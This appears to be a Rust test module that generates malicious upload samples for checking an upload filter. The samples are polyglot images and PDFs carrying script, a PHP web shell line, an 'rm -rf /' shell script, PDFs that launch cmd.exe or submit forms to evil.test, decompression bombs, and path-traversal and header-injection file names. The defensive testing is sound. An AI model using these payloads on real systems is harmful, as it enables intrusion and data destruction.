//! Malicious uploads, generated here: polyglots, active PDFs, decompression bombs, wrong file names. Each has a name
//! and an expected result.

use std::io::{Cursor, Write as _};

use flate2::Compression;
use flate2::write::ZlibEncoder;
use image::{DynamicImage, ImageFormat, Rgb, RgbImage};

use super::forms::SVG;

/// The expected result of a sample.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// It is not taken.
    Refused,
    /// What is kept of it is harmless.
    Inert,
}

/// An upload somebody means badly.
pub struct Sample {
    /// Its name.
    pub name: &'static str,
    /// Its name.
    pub file_name: String,
    /// Its content.
    pub bytes: Vec<u8>,
    /// What must not be kept of it.
    pub payload: Vec<u8>,
    /// Its result.
    pub fate: Fate,
}

const HTML: &[u8] = b"<!doctype html><script>alert('hostile')</script>";
const PHP: &[u8] = b"<?php system($_GET['c']); ?>";
const ZIP: &[u8] = b"PK\x03\x04\x14\0\0\0\0\0evil.js alert('hostile')PK\x05\x06\0\0\0\0\x01\0\x01\0";
const EXE: &[u8] = b"MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode.";

fn refused(name: &'static str, file_name: &str, bytes: impl Into<Vec<u8>>) -> Sample {
    let (file_name, bytes) = (file_name.to_owned(), bytes.into());
    Sample { name, file_name, payload: bytes.clone(), bytes, fate: Fate::Refused }
}

fn inert(name: &'static str, file_name: &str, bytes: impl Into<Vec<u8>>, payload: &[u8]) -> Sample {
    let (file_name, bytes, payload) = (file_name.to_owned(), bytes.into(), payload.to_vec());
    Sample { name, file_name, bytes, payload, fate: Fate::Inert }
}

fn join(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

fn picture(format: ImageFormat) -> Vec<u8> {
    let picture = RgbImage::from_fn(16, 16, |x, y| Rgb([x as u8 * 9, y as u8 * 9, 90]));
    let mut bytes = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(picture).write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

fn png() -> Vec<u8> {
    picture(ImageFormat::Png)
}

fn jpeg() -> Vec<u8> {
    picture(ImageFormat::Jpeg)
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut stream = ZlibEncoder::new(Vec::new(), Compression::best());
    stream.write_all(bytes).unwrap();
    stream.finish().unwrap()
}

fn crc(bytes: &[u8]) -> u32 {
    let step = |crc: u32, byte: &u8| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 })
    };
    !bytes.iter().fold(!0, step)
}

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let body = join(&[kind, data]);
    join(&[&u32::try_from(data.len()).unwrap().to_be_bytes(), &body, &crc(&body).to_be_bytes()])
}

/// A PNG with one more chunk behind its header.
fn png_with(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let png = png();
    join(&[&png[..33], &chunk(kind, data), &png[33..]])
}

/// A PNG of few bytes that promises this many pixels and holds so many.
fn png_of(width: u32, height: u32, pixels: &[u8]) -> Vec<u8> {
    let header = join(&[&width.to_be_bytes(), &height.to_be_bytes(), &[8, 2, 0, 0, 0]]);
    let parts = [chunk(b"IHDR", &header), chunk(b"IDAT", &packed(pixels)), chunk(b"IEND", b"")];
    join(&[b"\x89PNG\r\n\x1a\n", &parts.concat()])
}

/// A JPEG with one more segment in front.
fn jpeg_with(marker: u8, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len() + 2).unwrap().to_be_bytes();
    join(&[&[0xFF, 0xD8, 0xFF, marker], &length, data, &jpeg()[2..]])
}

/// A JPEG whose frame promises 65,500 × 65,500 pixels.
fn jpeg_bomb() -> Vec<u8> {
    let mut bytes = jpeg();
    let frame = bytes.windows(2).position(|pair| pair == [0xFF, 0xC0]).unwrap();
    bytes[frame + 5..frame + 9].copy_from_slice(&[0xFF, 0xDC, 0xFF, 0xDC]);
    bytes
}

fn pdf(objects: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n{objects}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n").into_bytes()
}

fn pdf_stream(dictionary: &str, stream: &[u8]) -> Vec<u8> {
    let head = format!("%PDF-1.7\n4 0 obj\n<< {dictionary} /Length {} >>\nstream\n", stream.len());
    join(&[head.as_bytes(), stream, b"\nendstream\nendobj\n%%EOF\n"])
}

/// All of them.
pub fn samples() -> Vec<Sample> {
    [pictures(), papers(), strangers(), names()].into_iter().flatten().collect()
}

fn pictures() -> Vec<Sample> {
    let script = join(&[b"*/=1;", b"alert('hostile');/*"]);
    let polyglot = jpeg_with(0xE0, &join(&[&script, &vec![b' '; 0x2F2A - 2 - script.len()]]));
    let mut torn = png();
    torn[29] ^= 1;
    let (whole_png, whole_jpeg) = (png(), jpeg());
    vec![
        inert("html behind a png", "a.png", join(&[&png(), HTML]), HTML),
        inert("php behind a png", "a.png", join(&[&png(), PHP]), PHP),
        inert("a zip behind a png", "a.png", join(&[&png(), ZIP]), ZIP),
        inert("a program behind a png", "a.png", join(&[&png(), EXE]), EXE),
        inert("html in a png's text", "a.png", png_with(b"tEXt", &join(&[b"Comment\0", HTML])), HTML),
        inert("html in a png's long text", "a.png", png_with(b"iTXt", &join(&[b"X\0\0\0\0\0", HTML])), HTML),
        inert("html in a png's unknown part", "a.png", png_with(b"evIl", HTML), HTML),
        inert("php in a png's time", "a.png", png_with(b"prVt", PHP), PHP),
        inert("html behind a jpeg", "a.jpg", join(&[&jpeg(), HTML]), HTML),
        inert("a zip behind a jpeg", "a.jpg", join(&[&jpeg(), ZIP]), ZIP),
        inert("a script in a jpeg's comment", "a.jpg", jpeg_with(0xFE, HTML), HTML),
        inert("php in a jpeg's camera data", "a.jpg", jpeg_with(0xE1, &join(&[b"Exif\0\0", PHP])), PHP),
        inert("a jpeg that is a script too", "a.js.jpg", polyglot, &script),
        inert("a small png of much data", "a.png", png_of(1, 1, &vec![0; 1 << 20]), &[0; 64]),
        refused("a pixel bomb as png", "a.png", png_of(60_000, 60_000, &[0])),
        refused("a flat pixel bomb", "a.png", png_of(2_000_000_000, 1, &[0])),
        refused("a pixel bomb as jpeg", "a.jpg", jpeg_bomb()),
        refused("a png of no pixels", "a.png", png_of(0, 0, &[])),
        refused("half a png", "a.png", &whole_png[..whole_png.len() / 2]),
        refused("a png's header alone", "a.png", &whole_png[..33]),
        refused("a png with a broken header", "a.png", torn),
        refused("a jpeg's beginning alone", "a.jpg", &whole_jpeg[..40]),
    ]
}

fn papers() -> Vec<Sample> {
    let script = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>";
    let hex: String = script.iter().map(|byte| format!("{byte:02x}")).collect();
    let objects = "/Type /ObjStm /N 1 /First 4";
    vec![
        refused("a pdf that is a page too", "a.pdf", pdf(&format!("({})", std::str::from_utf8(HTML).unwrap()))),
        refused("html behind a pdf", "a.pdf", join(&[&pdf("<< >>"), HTML])),
        refused("a pdf that is a zip too", "a.pdf", join(&[&pdf("<< >>"), ZIP, b"%%EOF\n"])),
        refused("a pdf behind a gif's mark", "a.pdf", join(&[b"GIF89a", &pdf("<< >>")])),
        refused("a pdf behind a byte order mark", "a.pdf", join(&[b"\xEF\xBB\xBF", &pdf("<< >>")])),
        refused("a pdf with a script", "a.pdf", pdf("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")),
        refused("a pdf with an escaped script", "a.pdf", pdf("<< /#53 /J#61va#53cript /#4a#53 (app.alert(1)) >>")),
        refused("a pdf with a script by reference", "a.pdf", pdf("<< /AA << /O << /JS 9 0 R >> >> >>")),
        refused("a pdf that starts a program", "a.pdf", pdf("<< /OpenAction << /S /Launch /F (cmd.exe) >> >>")),
        refused("a pdf with a file in it", "a.pdf", pdf("<< /Type /EmbeddedFile /Length 2 >>")),
        refused("a pdf with a list of files", "a.pdf", pdf("<< /Names << /EmbeddedFiles 5 0 R >> >>")),
        refused("a pdf with a dynamic form", "a.pdf", pdf("<< /AcroForm << /XFA 5 0 R >> >>")),
        refused("a pdf that sends a form", "a.pdf", pdf("<< /A << /S /SubmitForm /F (http://evil.test) >> >>")),
        refused("a pdf with a film", "a.pdf", pdf("<< /Subtype /RichMedia >>")),
        refused(
            "a pdf with a packed script",
            "a.pdf",
            pdf_stream(&format!("{objects} /Filter /FlateDecode"), &packed(script)),
        ),
        refused(
            "a pdf with a script in hexadecimal",
            "a.pdf",
            pdf_stream(&format!("{objects} /Filter /ASCIIHexDecode"), hex.as_bytes()),
        ),
        refused("a pdf under a password", "a.pdf", pdf("<< /Encrypt 9 0 R >>")),
        refused("a pdf without an end", "a.pdf", b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n".as_slice()),
    ]
}

fn strangers() -> Vec<Sample> {
    let mut large = png();
    large.resize(10 * 1024 * 1024 + 1, b' ');
    let mut heavy = pdf("<< >>");
    heavy.resize(12 * 1024 * 1024, b' ');
    vec![
        refused("a drawing", "a.svg", SVG),
        refused("a drawing named png", "a.png", SVG),
        refused("a drawing with a prologue", "a.jpg", join(&[b"<?xml version='1.0'?>\n", SVG])),
        refused("a page named png", "a.png", HTML),
        refused("a page named pdf", "a.pdf", HTML),
        refused("a page with a pdf's mark", "a.pdf", join(&[b"<!-- %PDF-1.7 -->", HTML])),
        refused("a page with a picture's mark", "a.jpg", join(&[b"\xFF\xD8", HTML])),
        refused("a gif that is a script too", "a.gif", b"GIF89a/*\0\0\0\0*/=1;alert('hostile')//;".as_slice()),
        refused("a gif named png", "a.png", picture(ImageFormat::Gif)),
        refused("a webp", "a.jpg", picture(ImageFormat::WebP)),
        refused("a program named pdf", "a.pdf", EXE),
        refused("another program named png", "a.png", b"\x7FELF\x02\x01\x01\0".as_slice()),
        refused("a shell script", "a.png", b"#!/bin/sh\nrm -rf /\n".as_slice()),
        refused("an archive named pdf", "a.pdf", ZIP),
        refused("a mail", "a.pdf", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>".as_slice()),
        refused("nothing", "a.pdf", b"".as_slice()),
        refused("one byte", "a.png", b"\x89".as_slice()),
        refused("too large a picture", "a.png", large),
        refused("too large a paper", "a.pdf", heavy),
    ]
}

/// Honest pictures under names that mean harm; the name is the payload.
fn names() -> Vec<Sample> {
    let named = |name, file_name: &str| inert(name, file_name, png(), file_name.as_bytes());
    vec![
        named("a name that climbs", "../../../../etc/cron.d/evil.png"),
        named("a name that climbs on Windows", "..\\\\..\\\\Windows\\\\evil.png"),
        named("a name with two endings", "passport.php.png"),
        named("a name with a false ending", "passport.png.html"),
        named("a name that turns around", "gpj.\u{202e}lmth.png"),
        named("a name with a header", "a%0d%0aSet-Cookie: x=1.png"),
        named("a name with a script", "<script>alert(1)<.script>.png"),
        named("a name with a zero", "evil.html%00.png"),
        inert("an endless name", &format!("{}.png", "a".repeat(3_000)), png(), "a".repeat(200).as_bytes()),
    ]
}
